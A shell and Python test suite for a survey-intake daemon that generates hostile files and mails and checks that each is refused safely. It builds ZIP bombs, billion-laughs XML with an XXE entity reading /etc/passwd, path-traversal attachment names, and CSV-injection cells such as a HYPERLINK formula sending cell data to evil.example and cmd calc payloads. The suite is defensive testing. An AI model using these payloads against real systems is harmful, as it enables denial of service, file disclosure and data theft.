# Command-line tests of hostile input (issue 8): files and mails built to
# hurt, each imported ahead of a good reply.  Each must be refused clearly
# (exit 3, the reason on stderr), the good reply after it must still go in,
# and the peak RSS of surveyd (its own and its parser children's, as wait4
# reports them) must stay under HOSTILE_RSS_KB.  The inputs are built here,
# at run time, by Python; none is committed.  The committed fixtures of
# tests/fixtures/hostile/ are imported by t_intake.sh (test_hostile_files)
# and measured here too, with the three files on which freexl misbehaves
# and the template the fuzzer found.  Also: cells starting with = + - @
# stay string cells in the exported workbook.  Sourced by run.sh, which
# provides the helpers.

HOSTILE_RSS_KB=${HOSTILE_RSS_KB:-307200}	# 300 MiB

# hostile_import NAME FILE...: imports the files and then a good reply
# with the peak RSS measured; stdout/stderr in $T/out, $T/err.  Exit code
# checked against 3, the good reply's line, the RSS bound.
hostile_import() {
	local name=$1 rc kb
	shift
	if [ -x /usr/bin/time ]; then
		/usr/bin/time -o "$T/rss" -f %M "$SURVEYD" -c "$T/surveyd.conf" \
		    import "${NOW[@]}" "$@" "$FIX/01-openpyxl.xlsx" >"$T/out" 2>"$T/err"
		rc=$?
	else
		$PY -c 'import resource, subprocess, sys
rc = subprocess.call(sys.argv[2:], stdout=open(sys.argv[1] + ".out", "w"),
                     stderr=open(sys.argv[1] + ".err", "w"))
open(sys.argv[1], "w").write("%d\n" % resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
sys.exit(rc)' "$T/rss" "$SURVEYD" -c "$T/surveyd.conf" import "${NOW[@]}" "$@" \
		    "$FIX/01-openpyxl.xlsx"
		rc=$?
		mv "$T/rss.out" "$T/out"
		mv "$T/rss.err" "$T/err"
	fi
	# GNU time puts "Command exited with non-zero status" before the figure.
	kb=$(tail -n 1 "$T/rss")
	echo "  $name: exit $rc, peak RSS ${kb} kB"
	[ "$rc" = 3 ] || { fail "$name: exited $rc, wanted 3"; sed 's/^/    | /' "$T/err" | head -5; }
	case $kb in
	''|*[!0-9]*) fail "$name: no peak RSS measured ('$kb')" ;;
	*) [ "$kb" -lt "$HOSTILE_RSS_KB" ] || fail "$name: peak RSS $kb kB, over $HOSTILE_RSS_KB kB" ;;
	esac
	grep -qE "01-openpyxl.xlsx: (stored as submission [0-9]+: accepted|duplicate of submission [0-9]+: accepted)" "$T/out" ||
	    fail "$name: the good reply after it was not handled"
}

# hostile_make KIND OUT...: builds hostile inputs (see the kinds below).
hostile_make() {
	$PY - "$@" <<'EOF' || fail "hostile_make $1 failed"
import struct, sys, zlib

DECL = b'<?xml version="1.0" encoding="UTF-8"?>\n'
NS_MAIN = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
NS_R = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NS_PKG = b"http://schemas.openxmlformats.org/package/2006/relationships"
REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
SHEET_HEAD = DECL + b'<worksheet xmlns="' + NS_MAIN + b'"><sheetData>'
SHEET_TAIL = b"</sheetData></worksheet>"
LAUGHS = b"""<!DOCTYPE lolz [
<!ENTITY lol "lol">
<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
<!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
"""
MiB = 1 << 20


def deflate(data):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


class Zip:
    """A ZIP written by hand, so members can lie and overlap."""

    def __init__(self):
        self.body = b""
        self.central = []

    def raw(self, name, comp, crc, size, declare=None, method=8):
        offset = len(self.body)
        size = size if declare is None else declare
        self.body += struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0x800,
                                 method, 0, 0x21, crc, len(comp), size,
                                 len(name), 0) + name + comp
        self.central.append((name, crc, len(comp), size, offset, method))
        return len(self.central) - 1

    def add(self, name, data, declare=None):
        return self.raw(name, deflate(data), zlib.crc32(data), len(data),
                        declare)

    def alias(self, index, name):
        self.central.append((name,) + self.central[index][1:])

    def bytes(self):
        cd = b""
        for name, crc, csize, size, offset, method in self.central:
            cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20,
                              0x800, method, 0, 0x21, crc, csize, size,
                              len(name), 0, 0, 0, 0, 0, offset) + name
        n = len(self.central)
        return self.body + cd + struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, n,
                                            n, len(cd), len(self.body), 0)


def workbook(z, sheets, prolog=b"", sst=None):
    names = b"".join(b'<sheet name="%s" sheetId="%d" r:id="rId%d"/>'
                     % (n, i, i) for i, n in enumerate(sheets, 1))
    rels = b"".join(b'<Relationship Id="rId%d" Type="%sworksheet" '
                    b'Target="worksheets/sheet%d.xml"/>' % (i, REL, i)
                    for i in range(1, len(sheets) + 1))
    if sst is not None:
        rels += (b'<Relationship Id="rIdS" Type="%ssharedStrings" '
                 b'Target="sharedStrings.xml"/>' % REL)
    z.add(b"_rels/.rels", DECL + b'<Relationships xmlns="%s"><Relationship '
          b'Id="rId1" Type="%sofficeDocument" Target="xl/workbook.xml"/>'
          b'</Relationships>' % (NS_PKG, REL))
    z.add(b"xl/workbook.xml", DECL + prolog + b'<workbook xmlns="%s" '
          b'xmlns:r="%s"><sheets>%s</sheets></workbook>' % (NS_MAIN, NS_R, names))
    z.add(b"xl/_rels/workbook.xml.rels", DECL + b'<Relationships '
          b'xmlns="%s">%s</Relationships>' % (NS_PKG, rels))
    if sst is not None:
        z.add(b"xl/sharedStrings.xml", sst)


def xlsx(path, sheet_xml, declare=None, prolog=b"", sst=None):
    z = Zip()
    workbook(z, [b"Sheet1"], prolog, sst)
    z.add(b"xl/worksheets/sheet1.xml", sheet_xml, declare)
    write(path, z.bytes())


def bomb_member(mib):
    """A worksheet of mib MiB of blanks, deflated in about 1 KB a MiB:
    full flushes make every MiB the same independent block, so it is made
    without deflating a gigabyte."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    blank = b" " * MiB
    head = c.compress(SHEET_HEAD) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(blank) + c.flush(zlib.Z_FULL_FLUSH)
    tail = c.compress(SHEET_TAIL) + c.flush()
    crc = zlib.crc32(SHEET_HEAD)
    for _ in range(mib):
        crc = zlib.crc32(blank, crc)
    crc = zlib.crc32(SHEET_TAIL, crc)
    size = (len(SHEET_HEAD) + mib * MiB + len(SHEET_TAIL)) & 0xffffffff
    return head + block * mib + tail, crc, size


def bomb(path, mib, declare=None):
    z = Zip()
    workbook(z, [b"Sheet1"])
    comp, crc, size = bomb_member(mib)
    z.raw(b"xl/worksheets/sheet1.xml", comp, crc, size, declare)
    write(path, z.bytes())


def write(path, data):
    with open(path, "wb") as f:
        f.write(data)


def mail(path, parts, extra=b""):
    m = (b"From: Nguoi La <nguoi.la@example.test>\r\nTo: khaosat@example.test\r\n"
         b"Subject: =?UTF-8?B?UGhp4bq/dQ==?=\r\nMessage-ID: <%s@example.test>\r\n"
         b"Date: Tue, 20 Jun 2023 10:00:00 +0700\r\nMIME-Version: 1.0\r\n%s"
         b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
         % (path.rsplit("/", 1)[-1].encode(), extra))
    for headers, body in parts:
        m += b"--b\r\n" + headers + b"\r\n\r\n" + body + b"\r\n"
    write(path, m + b"--b--\r\n")


PDF = b"JVBERi0xLjQKJeLjz9MKMSAwIG9iago8PCAvVHlwZSAvQ2F0YWxvZyA+PgplbmRvYmoK"
kind, out = sys.argv[1], sys.argv[2:]

if kind == "bombs":
    # 1 GiB of blanks saying so; the same saying 1 MiB (a liar, caught while
    # inflating); the liar inside a .zip; an .ods whose content.xml lies.
    bomb(out[0], 1024)
    bomb(out[1], 1024, declare=MiB)
    with open(out[1], "rb") as f:
        inner = f.read()
    z = Zip()
    z.add(b"phieu.xlsx", inner)
    write(out[2], z.bytes())
    z = Zip()
    z.add(b"mimetype", b"application/vnd.oasis.opendocument.spreadsheet")
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(b" " * MiB) + c.flush(zlib.Z_FULL_FLUSH)
    z.raw(b"content.xml", block * 1024 + c.flush(), 0, 1000, None)
    write(out[3], z.bytes())
elif kind == "laughs":
    lol = b"<row><c r=\"A1\" t=\"inlineStr\"><is><t>&lol9;&xxe;</t></is></c></row>"
    xlsx(out[0], DECL + LAUGHS + SHEET_HEAD[len(DECL):] + lol + SHEET_TAIL)
    xlsx(out[1], SHEET_HEAD + b'<row><c r="A1" t="s"><v>0</v></c></row>' + SHEET_TAIL,
         sst=DECL + LAUGHS + b'<sst xmlns="%s"><si><t>&lol9;</t></si></sst>' % NS_MAIN)
    xlsx(out[2], SHEET_HEAD + SHEET_TAIL, prolog=LAUGHS)
    z = Zip()
    z.add(b"mimetype", b"application/vnd.oasis.opendocument.spreadsheet")
    z.add(b"content.xml", DECL + LAUGHS + b'<office:document-content '
          b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">'
          b'&lol9;</office:document-content>')
    write(out[3], z.bytes())
elif kind == "declared":
    # Members declaring 1 GiB and 4 GiB - 2 (0xffffffff would mean ZIP64)
    # around a few real bytes.
    xlsx(out[0], SHEET_HEAD + SHEET_TAIL, declare=1 << 30)
    xlsx(out[1], SHEET_HEAD + SHEET_TAIL, declare=0xfffffffe)
elif kind == "overlap":
    # 250 central-directory entries (the sheet limit is 256), all one 1 MB
    # worksheet's local data (under the ratio floor): 250 MB inflated if
    # nothing adds them up.
    n = 250
    z = Zip()
    workbook(z, [b"S%d" % i for i in range(1, n + 1)])
    pad = b" " * (1000000 - len(SHEET_HEAD + SHEET_TAIL))
    first = z.add(b"xl/worksheets/sheet1.xml", SHEET_HEAD + pad + SHEET_TAIL)
    for i in range(2, n + 1):
        z.alias(first, b"xl/worksheets/sheet%d.xml" % i)
    write(out[0], z.bytes())
elif kind == "parts":
    # 10^6 MIME parts in 10 MB, under max-message-size.
    with open(out[0], "wb") as f:
        f.write(b"From: a@example.test\r\nMessage-ID: <parts@example.test>\r\n"
                b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n")
        f.write(b"--b\r\n\r\nx\r\n" * 1000000 + b"--b--\r\n")
    # 400,000 multiparts nested one in the other (20 MB, under the 25 MB
    # message limit).
    with open(out[1], "wb") as f:
        f.write(b"From: a@example.test\r\nMessage-ID: <deep@example.test>\r\nMIME-Version: 1.0\r\n")
        f.write(b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n" * 400000)
elif kind == "names":
    # Attachments named to climb out of the archive, absolute, with NUL,
    # with raw 8-bit bytes; the content a PDF, so nothing is a form.
    mail(out[0], [
        (b'Content-Type: application/pdf; name="../../../../evil.xlsx"\r\n'
         b'Content-Disposition: attachment; filename="../../../../evil.xlsx"\r\n'
         b'Content-Transfer-Encoding: base64', PDF),
        (b'Content-Type: application/pdf\r\nContent-Disposition: attachment; '
         b'filename="/etc/cron.d/evil.xlsx"\r\nContent-Transfer-Encoding: base64', PDF),
        (b"Content-Type: application/pdf\r\nContent-Disposition: attachment; "
         b"filename*=UTF-8''..%2F..%2Fevil%00.sh%2F.xlsx\r\n"
         b"Content-Transfer-Encoding: base64", PDF),
        (b'Content-Type: application/pdf\r\nContent-Disposition: attachment; '
         b'filename="..\\\\..\\\\evil\xc0\xaf.xlsx"\r\nContent-Transfer-Encoding: base64', PDF),
    ])
    z = Zip()
    z.add(b"../../evil.csv", b"name,value\nct_so_chuong_trinh,5\n")
    z.add(b"/tmp/evil.csv", b"name,value\nct_so_chuong_trinh,5\n")
    write(out[1], z.bytes())
elif kind == "nul":
    xlsx(out[0], SHEET_HEAD + b'<row r="1"><c r="A1" t="inlineStr"><is><t>a\x00b'
         b'</t></is></c></row>' + SHEET_TAIL)
    write(out[1], b"name,value\nct_so\x00_chuong_trinh,5\nnl_so_hoi,2\x005\n")
    mail(out[2], [(b"Content-Type: text/csv; name=\"a\x00b.csv\"\r\n"
                   b"Content-Transfer-Encoding: 8bit", b"x\x00y")],
         extra=b"X-Nul: a\x00b\r\n")
elif kind == "utf8":
    # Invalid UTF-8, overlong '/', a surrogate, past U+10FFFF: in XML text.
    for path, bad in zip(out, [b"\xff\xfe bad", b"\xc0\xaf \xe0\x80\xaf \xf0\x80\x80\xaf",
                               b"\xed\xa0\x80", b"\xf4\x90\x80\x80"]):
        xlsx(path, SHEET_HEAD + b'<row r="1"><c r="A1" t="inlineStr"><is><t>'
             + bad + b"</t></is></c></row>" + SHEET_TAIL)
elif kind == "utf8csv":
    # Overlong encodings in a CSV: read as Windows-1258, never stored raw.
    write(out[0], b"name,value\nnd_ho_ten,\xc0\xaf\xe0\x80\xaf \xed\xa0\x80\n"
          b"ct_so_chuong_trinh,\xc0\xaf5\n")
else:
    sys.exit("unknown kind " + kind)
EOF
}

test_hostile_zip_bomb() {
	hostile_make bombs "$T/bomb1g.xlsx" "$T/liar1g.xlsx" "$T/nested.zip" "$T/bomb.ods"
	local f
	for f in bomb1g.xlsx liar1g.xlsx nested.zip bomb.ods; do
		hostile_import "zip bomb $f" "$T/$f"
		expect_in "$T/err" "$f: Tệp “$f” không đọc được như một phiếu trả lời: "
		expect_in "$T/err" "a ZIP bomb?)"
	done
	expect_json "sorted(u['file'] for u in s['unmatched'] if u['state'] == 'not-a-form')" \
	    "['bomb.ods', 'bomb1g.xlsx', 'liar1g.xlsx', 'nested.zip']"
}

test_hostile_billion_laughs() {
	hostile_make laughs "$T/sheet.xlsx" "$T/strings.xlsx" "$T/workbook.xlsx" "$T/laughs.ods"
	local f
	for f in sheet.xlsx strings.xlsx workbook.xlsx laughs.ods; do
		hostile_import "billion laughs $f" "$T/$f"
		expect_in "$T/err" "XML with a DOCTYPE is refused (entity expansion)"
		grep -q "root:" "$T/err" "$T/out" && fail "$f: /etc/passwd was read"
	done
	expect_json "len([u for u in s['unmatched'] if u['state'] == 'not-a-form'])" "4"
}

test_hostile_declared_sizes() {
	hostile_make declared "$T/declares1g.xlsx" "$T/declares4g.xlsx"
	hostile_import "declared 1 GiB" "$T/declares1g.xlsx"
	expect_in "$T/err" "declares 1073741824 bytes, over the limit of 104857600 inflated bytes (a ZIP bomb?)"
	hostile_import "declared 4 GiB" "$T/declares4g.xlsx"
	expect_in "$T/err" "declares 4294967294 bytes, over the limit of 104857600 inflated bytes (a ZIP bomb?)"
}

test_hostile_overlapping_zip() {
	hostile_make overlap "$T/overlap.xlsx"
	hostile_import "overlapping ZIP entries" "$T/overlap.xlsx"
	expect_in "$T/err" "would take the archive past 104857600 inflated bytes (a ZIP bomb?)"
}

test_hostile_mime_parts() {
	hostile_make parts "$T/parts.eml" "$T/nested.eml"
	hostile_import "10^6 MIME parts" "$T/parts.eml"
	expect_in "$T/err" "parts.eml: the message has more than 500 MIME parts"
	hostile_import "400,000 nested multiparts" "$T/nested.eml"
	expect_in "$T/err" "nested.eml: the message nests MIME parts deeper than 8 levels"
}

test_hostile_traversal_names() {
	hostile_make names "$T/names.eml" "$T/traversal.zip"
	mkdir -p "$T/work/a/b"
	# From a folder deep enough that ../../.. lands inside $T.
	cd "$T/work/a/b" || fail "cd"
	hostile_import "path traversal names" "$T/names.eml" "$T/traversal.zip"
	cd "$here" || fail "cd"
	expect_in "$T/err" "names.eml: the message has no spreadsheet (it has: "
	# The ZIP's members (../../evil.csv, /tmp/evil.csv) are read as names
	# only: a CSV from no one, unmatched.
	expect_in "$T/err" "traversal.zip: Không xác định được đơn vị gửi phiếu."
	expect_json "[u['file'] for u in s['unmatched']]" "['traversal.zip']"
	grep "names.eml" "$T/err" | grep -qE '\(it has: .*(\.\./|/etc/|\\)' && fail "a name kept its path: $(grep names.eml "$T/err")"
	# Nothing written under any of the names.
	[ -z "$(find "$T" -name 'evil*' | head -n 3)" ] ||
	    fail "a file named evil* appeared: $(find "$T" -name 'evil*' | head -n 3)"
	[ -e /etc/cron.d/evil.xlsx ] && fail "/etc/cron.d/evil.xlsx written"
	[ -e /tmp/evil.csv ] && fail "/tmp/evil.csv written"
	# The archive holds content by hash only.
	[ -z "$(find "$T/archive" -type f | grep -vE '/[0-9a-f]{2}/[0-9a-f]{64}$' | head -n 3)" ] ||
	    fail "the archive holds a file not named by its hash: $(find "$T/archive" -type f | head -n 3)"
}

test_hostile_nul_bytes() {
	hostile_make nul "$T/nul.xlsx" "$T/nul.csv" "$T/nul.eml"
	hostile_import "NUL in XML" "$T/nul.xlsx"
	expect_in "$T/err" "nul.xlsx: Tệp “nul.xlsx” không đọc được như một phiếu trả lời: XML error in 'xl/worksheets/sheet1.xml'"
	hostile_import "NUL in CSV" "$T/nul.csv"
	expect_in "$T/err" "nul.csv: Tệp “nul.csv” không đọc được như một phiếu trả lời: not a spreadsheet"
	hostile_import "NUL in a mail" "$T/nul.eml"
	expect_in "$T/err" "nul.eml: the message has no spreadsheet (it has: "
	hostile_no_bad_text
}

test_hostile_invalid_utf8() {
	hostile_make utf8 "$T/invalid.xlsx" "$T/overlong.xlsx" "$T/surrogate.xlsx" "$T/past10ffff.xlsx"
	local f
	for f in invalid.xlsx overlong.xlsx surrogate.xlsx past10ffff.xlsx; do
		hostile_import "UTF-8 $f" "$T/$f"
		expect_in "$T/err" "$f: Tệp “$f” không đọc được như một phiếu trả lời: XML error in 'xl/worksheets/sheet1.xml' at line 2: not well-formed (invalid token)"
	done
	# In a CSV the same bytes are Windows-1258 text: read, then refused as
	# no one's reply; only valid UTF-8 reaches the store.
	hostile_make utf8csv "$T/overlong.csv"
	hostile_import "UTF-8 overlong.csv" "$T/overlong.csv"
	expect_in "$T/err" "overlong.csv: Không xác định được đơn vị gửi phiếu."
	hostile_no_bad_text
}

# Every text in the store is valid UTF-8 without NUL.
hostile_no_bad_text() {
	$PY - "$T/db/surveyd.db" <<'EOF' || fail "the store holds text that is not valid UTF-8"
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
db.text_factory = bytes
bad = 0
for (table,) in db.execute("select name from sqlite_master where type = 'table'"):
    t = table.decode()
    for row in db.execute('select * from "%s"' % t):
        for v in row:
            if isinstance(v, bytes):
                try:
                    v.decode("utf-8")
                except UnicodeDecodeError:
                    print("    %s: %r" % (t, v[:60])); bad += 1
sys.exit(bad != 0)
EOF
}

# Cells starting with = + - @ stay string cells in the exported workbook.
test_hostile_csv_injection() {
	$PY - "$FIX/01.expected.json" "$T/inject.csv" <<'EOF' || fail "could not write inject.csv"
import csv, json, sys
v = json.load(open(sys.argv[1]))["values"]
v["kn_lhh_vn"] = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
v["kn_ubnd_tinh"] = "+1+cmd|' /C calc'!A0"
v["nd_chuc_vu"] = "-2+3"
v["nd_ho_ten"] = "@SUM(1+1)*cmd|' /C calc'!A0"
with open(sys.argv[2], "w", newline="", encoding="utf-8") as f:
    w = csv.writer(f)
    w.writerow(["name", "value"])
    for k, x in v.items():
        w.writerow([k, x])
EOF
	expect_rc 0 s import "${NOW[@]}" --respondent 02 "$T/inject.csv"
	expect_in "$T/out" "inject.csv: stored as submission 1: accepted (02"
	# The file's own name is the sender's to choose, and is exported too.
	printf '%%PDF-1.4\n' > "$T/=1+2.xlsx"
	expect_rc 3 s import "${NOW[@]}" "$T/=1+2.xlsx"
	expect_rc 0 s export -o "$T/export.xlsx"
	$PY - "$T/export.xlsx" <<'EOF' || fail "a cell starting with = + - @ is not a string cell in the export"
import html, re, sys, zipfile
z = zipfile.ZipFile(sys.argv[1])
want = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
        "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+2.xlsx"]
def text(x):
    return html.unescape(re.sub(r"<[^>]+>", "", x))
sst = []
if "xl/sharedStrings.xml" in z.namelist():
    sst = [text(m) for m in re.findall(r"<si>(.*?)</si>",
           z.read("xl/sharedStrings.xml").decode(), re.S)]
found, bad = set(), 0
for n in z.namelist():
    if not re.match(r"xl/worksheets/sheet\d+\.xml$", n):
        continue
    for m in re.finditer(r"<c\b([^>]*?)(?:/>|>(.*?)</c>)", z.read(n).decode(), re.S):
        attrs, body = m.group(1), m.group(2) or ""
        t = re.search(r'\bt="(\w+)"', attrs)
        t = t.group(1) if t else "n"
        f = re.search(r"<f\b[^>]*>(.*?)</f>", body, re.S)
        if f and any(w.lstrip("=+-@")[:8] in text(f.group(1)) for w in want):
            print("    %s %s: a formula: %s" % (n, attrs, f.group(1)[:80])); bad += 1
        if t == "s":
            s = sst[int(re.search(r"<v>(\d+)</v>", body).group(1))]
        elif t == "inlineStr":
            s = text(body)
        else:
            s = text(re.sub(r"<f\b.*?</f>", "", body, flags=re.S))
        if s in want:
            if t in ("s", "inlineStr") and not f:
                found.add(s)
            else:
                print("    %s %s: %r is not a string cell" % (n, attrs, s)); bad += 1
for w in want:
    if w not in found:
        print("    %r not found as a string cell" % w); bad += 1
sys.exit(bad != 0)
EOF
}

# The committed fixtures too, one at a time, with their memory measured.
test_hostile_fixtures_memory() {
	local f
	for f in "$here"/tests/fixtures/hostile/*; do
		[ -f "$f" ] || continue
		hostile_import "fixture $(basename "$f")" "$f"
	done
}

# freexl 1.0.6 reads past its own buffers on the first two and segfaults
# on the third (found by fuzzing); surveyd cannot fix the library, the
# parser child contains it.
test_hostile_freexl() {
	local f
	for f in freexl-overread.xls freexl-heap-overread.xls freexl-bad-free.xls \
	    freexl-double-free.xls; do
		hostile_import "freexl $f" "$here/tests/fixtures/hostile/$f"
		# Refused as corrupt, or the parser child died on it (signal 11).
		grep -qE "$f: Tệp “$f” không đọc được như một phiếu trả lời: (corrupt|the spreadsheet reader crashed)" "$T/err" ||
		    fail "$f: no clear reason: $(head -c 300 "$T/err")"
	done
}

# Found with fuzz_template: a CR alone inside a template's subject line
# passed check-config, then every mail of that kind failed to render.  Now
# the template is refused at load (tests/fixtures/hostile/templates-cr/).
test_hostile_template_cr() {
	mkdir -p "$T/tpl"
	cp "$here"/templates/vi/*.txt "$T/tpl/"
	cp "$here/tests/fixtures/hostile/templates-cr/form.txt" "$T/tpl/form.txt"
	cat >> "$T/surveyd.conf" <<EOT
templates=$T/tpl
[smtp]
url=smtp://127.0.0.1:2525
from=Khảo sát <khaosat@example.test>
EOT
	expect_rc 2 s check-config
	expect_in "$T/err" "$T/tpl/form.txt:6: a line break (CR) inside the subject"
	cp "$here/templates/vi/form.txt" "$T/tpl/form.txt"
	expect_rc 0 s check-config
}
